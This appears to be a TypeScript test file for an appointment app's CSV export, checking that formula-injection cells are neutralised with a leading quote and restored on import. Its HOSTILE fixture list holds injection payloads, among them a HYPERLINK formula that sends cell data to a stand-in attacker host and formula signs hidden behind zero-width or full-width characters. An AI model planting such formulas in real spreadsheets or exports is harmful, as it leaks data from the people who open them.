import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv, previewImport } from "../../admin/csv-import.js";
import { couldBeFormula, defuseFormula, undefuseFormula } from "../../shared/csv-formula.js";
import { booking, seedBasics, startTestServer, type TestServer } from "../helpers/test-server.js";

/**
 * OWASP's CSV injection guidance: no exported cell may start, once a spreadsheet has skipped what
 * it skips (white space, invisible characters) and folded full-width forms, with = + - @, a tab or
 * a carriage return. Such a cell is written with a leading ' and read back without it.
 */

/** As the API stores them (it trims white space, so tab, CR and the ideographic space cannot lead a stored value). */
const HOSTILE = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  '=HYPERLINK("http://evil.example/?"&A1)',
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  "﹢1",
  "\u22121",
  "\u200B=1+1",
  "\u200B\u200B＝1",
  "\u0000=1",
  "\u200E=1",
  "\u202E=1",
  "\u2060=1",
  "\u00AD=1",
  "\u3164=1",
  "\u200D@SUM(A1)",
];
const SAFE = ["张伟", "京A·12345", "1万公里保养", "A=B", "a-b", "100%", "'引号开头", "（=）"];

describe("formula cells", () => {
  it("are recognised through white space, controls, zero-width and full-width forms", () => {
    for (const v of [...HOSTILE, "\t=1", "\r=1", "\n=1", "\t", " =1", "\u3000=1", "\uFEFF=1", "\u00A0+1"]) expect(couldBeFormula(v), JSON.stringify(v)).toBe(true);
    for (const v of [...SAFE, ""]) expect(couldBeFormula(v), JSON.stringify(v)).toBe(false);
  });

  it("get one leading quote, taken off again on import; other cells are left as they are", () => {
    for (const v of HOSTILE) {
      expect(defuseFormula(v)).toBe(`'${v}`);
      expect(undefuseFormula(defuseFormula(v))).toBe(v);
    }
    for (const v of SAFE) {
      expect(defuseFormula(v)).toBe(v);
      expect(undefuseFormula(v)).toBe(v);
    }
  });
});

describe("GET /api/export.csv with hostile cells", () => {
  let server: TestServer;
  let advisor: number;
  beforeAll(async () => {
    server = await startTestServer();
    advisor = (await seedBasics(server)).advisors[0]!;
    for (const [i, v] of [...HOSTILE, ...SAFE].entries()) {
      const res = await server.api("/api/appointments", {
        method: "POST",
        json: booking(advisor, { startTime: `${String(8 + (i % 10)).padStart(2, "0")}:00`, customerName: v, vehicleModel: v, workRequested: v, notes: v, phone: "+86 138 1024 5567" }),
      });
      expect(res.status, JSON.stringify(v)).toBe(201);
    }
  });
  afterAll(async () => {
    await server.close();
  });

  it("defuses every such cell in every text column, and only those", async () => {
    const res = await server.api("/api/export.csv?date=2026-11-27");
    expect(res.status).toBe(200);
    const [header = [], ...rows] = parseCsv(res.body as string);
    const col = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(HOSTILE.length + SAFE.length);
    for (const row of rows) {
      const notes = row[col("notes")]!;
      const original = notes.startsWith("'") && HOSTILE.includes(notes.slice(1)) ? notes.slice(1) : notes;
      expect([...HOSTILE, ...SAFE], JSON.stringify(notes)).toContain(original);
      const expected = HOSTILE.includes(original) ? `'${original}` : original;
      for (const name of ["customerName", "vehicleModel", "workRequested", "notes"]) expect(row[col(name)], `${name} of ${JSON.stringify(original)}`).toBe(expected);
      expect(row[col("phone")]).toBe("'+86 138 1024 5567");
      // what a spreadsheet would see: nothing it skips, then a formula sign, unless the quote stands first
      for (const cell of row) {
        const seen = cell.replace(/^[\s\p{C}\u034f\u115f\u1160\u3164\uffa0]+/u, "").normalize("NFKC");
        if (/^[=+\-@\u2212]/.test(seen)) expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
      }
    }
  });

  it("imports back exactly what was exported", async () => {
    const csv = (await server.api("/api/export.csv?date=2026-11-27")).body as string;
    const board = (await server.api("/api/board?date=2026-11-27")).body;
    const preview = previewImport(csv, { advisors: board.advisors, bays: board.bays, date: "2026-11-27" });
    const notes = preview.rows.map((r) => r.input?.notes);
    expect(notes.sort()).toEqual([...HOSTILE, ...SAFE].sort());
    for (const r of preview.rows) expect(r.input?.phone).toBe("+86 138 1024 5567");
  });
});
